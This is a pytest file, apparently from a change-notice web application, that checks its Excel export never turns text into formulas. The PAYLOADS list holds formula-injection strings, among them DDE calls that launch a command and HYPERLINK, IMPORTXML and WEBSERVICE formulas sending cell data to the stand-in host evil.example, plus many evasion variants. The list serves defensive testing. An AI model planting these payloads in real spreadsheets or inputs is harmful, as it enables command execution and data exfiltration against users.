"""No cell of an export is ever a formula (docs/threats.md#t29)."""

import io
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook

from core.files import xlsx
from core.files.xlsx import write_workbook
from engineering.models import ChangeNotice
from tests.factories import a_change
from tests.people import Cast, content_of

PAYLOADS = (
    "=1+1",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"ok")',
    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    '=DDE("cmd";"/C calc";"x")',
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "@A1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20A1",
    ";=1+1",
    ",=1+1",
    "'=1+1",
    '"=1+1',
    "=1+1\x00",
    "\x01=1+1",
    "{=1+1}",
    "=\u200b1+1",
    "\ufeff=1+1",
    "|=1+1",
    "%0A=1+1",
    "=" * 300,
    "=A1:A9",
    '=WEBSERVICE("http://evil.example")',
    "#REF!",
    "=#N/A",
    "TRUE",
    "1E400",
    "00123",
    "2026-01-07",
)
TEXTS = ("po_number", "customer", "project_name", "engineering", "detail_problem")


def cells(content: bytes) -> list[Any]:
    """Every cell of a workbook, as Excel would take it."""
    book = load_workbook(io.BytesIO(content))
    return [cell for sheet in book for row in sheet.iter_rows() for cell in row]


def formulas(content: bytes) -> list[Any]:
    """Cells that would be computed."""
    return [cell.value for cell in cells(content) if cell.data_type == "f"]


@pytest.mark.parametrize("query", ["", "?report=increase"])
def test_no_payload_in_any_column_becomes_a_formula(cast: Cast, query: str) -> None:
    change = a_change(cast.agus)
    browser = cast.browser("agus")
    for payload in PAYLOADS:
        text = payload.replace("\x00", "")
        values = dict.fromkeys(TEXTS, text[:90])
        ChangeNotice.objects.filter(pk=change.pk).update(
            requester_name=text[:90], number=text[:40], **values
        )
        content = content_of(browser.get(f"/changes/excel/{query}"))
        assert not formulas(content), payload
        assert {cell.data_type for cell in cells(content)} <= {
            "s",
            "n",
            "d",
            "inlineStr",
        }


def test_names_from_upstreams_are_text_too(cast: Cast) -> None:
    for row in cast.sandbox.crm.purchase_orders:
        row["purchaseOrderNumber"] = "=1+1"
        row["account"]["name"] = "@SUM(1)"
    for row in cast.sandbox.auth.people:
        row["name"] = "+cmd|' /C calc'!A0"
    a_change(cast.agus)
    content = content_of(cast.browser("agus").get("/changes/excel/"))
    values = {cell.value for cell in cells(content)}
    assert {"=1+1", "@SUM(1)"} <= values
    assert not formulas(content)


def test_what_cannot_stand_in_a_cell_is_left_out() -> None:
    rows = [["\x00\x01a\ud800b", "x" * 40_000, None, True, 1.5]]
    with write_workbook("T", ["=H"], rows) as file:
        found = cells(file.read())
    assert found[0].value == "=H"
    by_place = {cell.coordinate: cell.value for cell in found}
    assert by_place["A2"] == "ab"
    assert len(by_place["B2"]) == 32_767
    assert by_place["E2"] == 1.5


def test_a_writer_that_forgets_would_be_seen(
    cast: Cast, monkeypatch: pytest.MonkeyPatch
) -> None:
    book: Any = Workbook()
    book.active.append(["=1+1"])
    file = io.BytesIO()
    book.save(file)
    assert formulas(file.getvalue()) == ["=1+1"]
    monkeypatch.setattr(xlsx._Cells, "text", lambda _self, text, **_: text)
    change = a_change(cast.agus)
    ChangeNotice.objects.filter(pk=change.pk).update(customer="=1+1")
    content = content_of(cast.browser("agus").get("/changes/excel/"))
    assert formulas(content) == ["=1+1"]
